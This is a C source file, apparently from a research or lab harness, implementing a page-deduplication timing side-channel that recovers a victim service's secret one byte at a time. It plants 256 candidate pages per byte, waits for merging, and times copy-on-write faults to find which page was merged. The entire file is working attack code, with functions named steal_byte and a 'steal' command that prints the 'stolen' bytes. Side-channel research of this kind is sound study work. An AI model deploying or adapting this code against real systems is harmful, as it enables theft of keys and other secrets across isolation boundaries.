// SPDX-License-Identifier: GPL-2.0-only
/*
 * Byte by byte: the attacker has the service put its secret behind a filler that leaves room for one unknown byte in
 * the page, plants a page for each value that the byte may have, and looks which one was merged.
 *
 *	steal KEY BYTES REPEATS PASSES SEED	fillers from KEY on; REPEATS of them for each byte, at once
 */
#include "attack.h"
#include "service.h"

#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define VALUES 256
#define MAX_REPEATS 15

struct theft {
	uint64_t key;
	uint32_t bytes, repeats, passes;
	uint64_t seed;
	int service;
	uint8_t *known;
	uint32_t byte;		/* that is guessed */
};

/* The page as it must be in the service's memory, if what is known so far is right and the next byte is `value`. */
static void guess(const struct theft *theft, uint32_t repeat, unsigned int value, uint8_t *page)
{
	uint32_t filler = PAGE_BYTES - theft->byte - 1;

	fill_page((uint64_t *)page, KIND_FILLED, theft->key + theft->byte * theft->repeats + repeat);
	memcpy(page + filler, theft->known, theft->byte);
	page[PAGE_BYTES - 1] = (uint8_t)value;
}

static void ask_for_secret(const struct theft *theft, uint32_t repeat, const uint8_t *page)
{
	struct wish_header wish = { WISH_QUOTE, theft->byte * theft->repeats + repeat, PAGE_BYTES - theft->byte - 1 };
	char answer;

	if (!write_all(theft->service, &wish, sizeof(wish)) || !write_all(theft->service, page, wish.count) ||
	    !read_all(theft->service, &answer, 1))
		die("the service went away");
}

/* The median of the repeats: one interruption does not make a guess right. */
static uint8_t longest(const struct theft *theft, uint64_t *took)
{
	uint64_t most = 0, each[MAX_REPEATS];
	uint8_t found = 0;

	for (unsigned int value = 0; value < VALUES; value++) {
		for (uint32_t repeat = 0; repeat < theft->repeats; repeat++)
			each[repeat] = took[repeat * VALUES + value];
		qsort(each, theft->repeats, sizeof(*each), by_value);
		if (each[theft->repeats / 2] > most) {
			most = each[theft->repeats / 2];
			found = (uint8_t)value;
		}
	}
	return found;
}

static uint8_t steal_byte(const struct theft *theft)
{
	uint32_t pages = theft->repeats * VALUES;
	struct area area = map_area(pages);
	uint32_t *order = random_order(theft->seed + theft->byte, pages);
	uint64_t *took = private_memory(pages * sizeof(*took));
	uint8_t found;

	for (uint32_t repeat = 0; repeat < theft->repeats; repeat++) {
		for (unsigned int value = 0; value < VALUES; value++)
			guess(theft, repeat, value, page_of(&area, repeat * VALUES + value));
		ask_for_secret(theft, repeat, page_of(&area, repeat * VALUES));
	}
	register_area(&area);
	wait_passes(theft->passes);
	for (uint32_t i = 0; i < pages; i++)
		took[order[i]] = time_write(page_of(&area, order[i]));
	found = longest(theft, took);
	unmap_area(&area);
	return found;
}

static void obey(const struct words *words)
{
	struct theft theft = { .key = number(words, 1), .bytes = number(words, 2), .repeats = number(words, 3),
			       .passes = number(words, 4), .seed = number(words, 5) };

	if (strcmp(words->at[0], "steal") || theft.repeats > MAX_REPEATS)
		die("steal does not know %s", words->at[0]);
	theft.known = private_memory(theft.bytes);
	theft.service = connect_to(SERVICE_PORT);
	for (; theft.byte < theft.bytes; theft.byte++)
		theft.known[theft.byte] = steal_byte(&theft);
	close(theft.service);
	say_bytes("stolen", theft.known, theft.bytes);
}

void steal(void)
{
	serve(obey);
}
